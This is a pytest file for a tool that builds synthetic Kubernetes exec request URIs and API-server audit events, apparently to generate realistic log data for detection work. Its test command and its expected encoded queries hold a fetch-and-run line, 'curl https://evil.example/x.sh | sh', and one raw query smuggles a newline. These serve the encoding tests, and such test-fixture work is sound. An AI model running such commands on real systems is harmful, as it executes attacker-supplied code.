"""The synthetic builders: exact client encodings, realistic exec stages, deterministic sample."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime
from urllib.parse import parse_qsl, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from devtools.traffic.exec_uris import Client
from devtools.traffic.synthetic import (
    CLIENT_PROFILES,
    as_event_list,
    exec_audit_events,
    exec_request_uri,
    routine_audit_event,
)
from examples import make_sample

START = datetime(2025, 1, 15, 10, 0, tzinfo=UTC)
CMD = ("sh", "-c", "curl https://evil.example/x.sh | sh & echo '$HOME'/*!~(x)")
PREFIX = "/api/v1/namespaces/default/pods/web-0/exec?"

# Hand-written from each client's source: order, boolean spelling and escaping differ.
EXPECTED_QUERIES: dict[str, str] = {
    "kubectl": (
        "command=sh&command=-c"
        "&command=curl+https%3A%2F%2Fevil.example%2Fx.sh+%7C+sh+%26+echo+%27%24HOME%27%2F%2A%21~%28x%29"
        "&container=app&stderr=true&stdout=true"
    ),
    "javascript": (
        "stdout=true&stderr=true&stdin=false&tty=false&command=sh&command=-c"
        "&command=curl%20https%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh%20%26%20echo%20'%24HOME'%2F*!~(x)"
        "&container=app"
    ),
    "rancher": (
        "container=app&stdout=1&stdin=0&stderr=1&tty=0&command=sh&command=-c"
        "&command=curl%20https%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh%20%26%20echo%20'%24HOME'%2F*!~(x)"
    ),
    "python": (
        "command=sh&command=-c"
        "&command=curl+https%3A%2F%2Fevil.example%2Fx.sh+%7C+sh+%26+echo+%27%24HOME%27%2F%2A%21~%28x%29"
        "&container=app&stderr=True&stdin=False&stdout=True&tty=False"
    ),
}


def _uri(client: Client, command: tuple[str, ...] = CMD, **kwargs: object) -> str:
    options: dict[str, object] = {"namespace": "default", "pod": "web-0", "container": "app"}
    options.update(kwargs)
    return exec_request_uri(command=command, client=client, **options)  # type: ignore[arg-type]


@pytest.mark.parametrize("client", sorted(EXPECTED_QUERIES))
def test_client_encodes_exec_query_exactly(client: Client) -> None:
    assert _uri(client) == PREFIX + EXPECTED_QUERIES[client]


def test_kubectl_interactive_flags_sorted_and_only_true() -> None:
    uri = _uri("kubectl", ("bash",), stdin=True, tty=True, stderr=False)
    assert uri == PREFIX + "command=bash&container=app&stdin=true&stdout=true&tty=true"


def test_kubectl_omits_empty_container_javascript_sends_it_empty() -> None:
    assert _uri("kubectl", ("ls",), container=None) == PREFIX + "command=ls&stderr=true&stdout=true"
    assert _uri("javascript", ("ls",), container=None).endswith("&command=ls&container=")


def test_non_ascii_is_utf8_percent_encoded_by_every_client() -> None:
    for client in EXPECTED_QUERIES:
        assert "command=%C3%A9cho" in _uri(client, ("écho",))  # type: ignore[arg-type]


def test_raw_client_keeps_the_query_verbatim() -> None:
    query = "command=sh&command=-c&command=id%0Aid&container=a&container=b"
    assert _uri("raw", (), raw_query=query) == PREFIX + query
    with pytest.raises(ValueError, match="raw_query"):
        _uri("raw")


def test_attach_has_no_command() -> None:
    uri = _uri("kubectl", (), subresource="attach", stdin=True, tty=True)
    assert uri == "/api/v1/namespaces/default/pods/web-0/attach?container=app&stderr=true" + (
        "&stdin=true&stdout=true&tty=true"
    )
    with pytest.raises(ValueError, match="attach"):
        _uri("kubectl", ("sh",), subresource="attach")


def test_kubelet_proxy_path_uses_kubelet_flag_names() -> None:
    uri = _uri("kubectl", ("id",), subresource="proxy", node="worker-2", stdin=True)
    assert uri == "/api/v1/nodes/worker-2/proxy/exec/default/web-0/app?command=id&input=1" + (
        "&output=1&error=1"
    )


def test_command_must_be_a_sequence_not_a_string() -> None:
    with pytest.raises(TypeError):
        _uri("kubectl", "ls -la")  # type: ignore[arg-type]


@pytest.mark.parametrize("client", ["kubectl", "javascript", "rancher", "python"])
@given(argv=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5))
def test_every_client_encoding_decodes_back_to_argv(client: Client, argv: list[str]) -> None:
    query = urlsplit(_uri(client, tuple(argv))).query
    # Python's parse_qsl undoes both '+' and '%20'; a literal '+' is always sent as %2B.
    decoded = [v for k, v in parse_qsl(query, keep_blank_values=True) if k == "command"]
    assert decoded == argv


def test_exec_events_share_audit_id_and_have_realistic_stages() -> None:
    events = exec_audit_events(command=["ls"], rng=random.Random(1), start=START)
    assert [e["stage"] for e in events] == [
        "RequestReceived",
        "ResponseStarted",
        "ResponseComplete",
    ]
    assert len({e["auditID"] for e in events}) == 1
    first, started, complete = events
    assert "responseStatus" not in first and "annotations" not in first
    assert started["responseStatus"] == {"metadata": {}, "code": 101}
    assert complete["annotations"]["authorization.k8s.io/decision"] == "allow"
    assert first["requestReceivedTimestamp"] == "2025-01-15T10:00:00.000000Z"
    assert first["stageTimestamp"] < started["stageTimestamp"] < complete["stageTimestamp"]
    assert first["objectRef"] == {
        "resource": "pods",
        "namespace": "default",
        "name": "web-6f7d8b9c5d-4kx2p",
        "apiVersion": "v1",
        "subresource": "exec",
    }
    assert first["verb"] == "get"  # kubectl 1.31 speaks WebSocket
    assert first["userAgent"].startswith("kubectl/v1.31")


def test_transport_decides_verb_and_clients_without_user_agent_omit_it() -> None:
    spdy = exec_audit_events(command=["ls"], transport="spdy", rng=random.Random(1), start=START)
    assert {e["verb"] for e in spdy} == {"create"}
    python = exec_audit_events(command=["ls"], client="python", rng=random.Random(1), start=START)
    assert all("userAgent" not in e for e in python)


def test_rancher_exec_is_impersonated() -> None:
    events = exec_audit_events(command=["sh"], client="rancher", rng=random.Random(1), start=START)
    assert events[0]["impersonatedUser"]["username"] == "u-7xk2p"
    assert events[0]["user"]["username"].startswith("system:serviceaccount:cattle-impersonation")


def test_forbidden_exec_never_upgrades() -> None:
    events = exec_audit_events(command=["id"], decision="forbid", rng=random.Random(1), start=START)
    assert [e["stage"] for e in events] == ["RequestReceived", "ResponseComplete"]
    assert events[-1]["responseStatus"]["code"] == 403
    assert events[-1]["annotations"]["authorization.k8s.io/decision"] == "forbid"


def test_proxy_exec_object_ref_is_the_node() -> None:
    events = exec_audit_events(
        command=["id"], subresource="proxy", node="worker-3", rng=random.Random(1), start=START
    )
    assert events[0]["objectRef"]["resource"] == "nodes"
    assert events[0]["objectRef"]["subresource"] == "proxy"
    assert events[0]["requestURI"].startswith("/api/v1/nodes/worker-3/proxy/exec/default/")


def test_builders_are_deterministic_with_injected_rng_and_start() -> None:
    def build() -> str:
        rng = random.Random(7)
        events = exec_audit_events(command=["ls"], client="javascript", rng=rng, start=START)
        events += [routine_audit_event(rng, START) for _ in range(20)]
        return json.dumps(events)

    assert build() == build()


def test_stage_events_do_not_share_mutable_state() -> None:
    events = exec_audit_events(command=["ls"], rng=random.Random(1), start=START)
    events[0]["user"]["groups"].append("tampered")
    assert "tampered" not in events[1]["user"]["groups"]
    assert "tampered" not in CLIENT_PROFILES["kubectl"].user["groups"]


def test_routine_events_are_realistic_in_size_and_kind() -> None:
    rng = random.Random(3)
    events = [routine_audit_event(rng, START) for _ in range(300)]
    sizes = [len(json.dumps(e)) for e in events]
    assert min(sizes) >= 900 and max(sizes) <= 3 * 1024
    verbs = {e["verb"] for e in events}
    assert {"get", "list", "watch", "update", "patch", "create"} <= verbs
    resources = {e["objectRef"]["resource"] for e in events}
    assert {"pods", "configmaps", "leases", "secrets", "deployments", "events"} <= resources
    for event in events:
        if event["objectRef"]["resource"] == "secrets":
            assert event["level"] == "Metadata" and "responseObject" not in event
        if event["verb"] in ("update", "patch", "create"):
            assert "requestObject" in event


def test_event_list_items_drop_type_meta() -> None:
    events = exec_audit_events(command=["ls"], rng=random.Random(1), start=START)
    batch = as_event_list(events)
    assert batch["kind"] == "EventList" and len(batch["items"]) == 3
    assert all("kind" not in item and "apiVersion" not in item for item in batch["items"])


def test_example_sample_is_up_to_date() -> None:
    """examples/audit-sample.jsonl is what make_sample writes; regenerate it if this fails."""
    assert make_sample.main(["--check"]) == 0
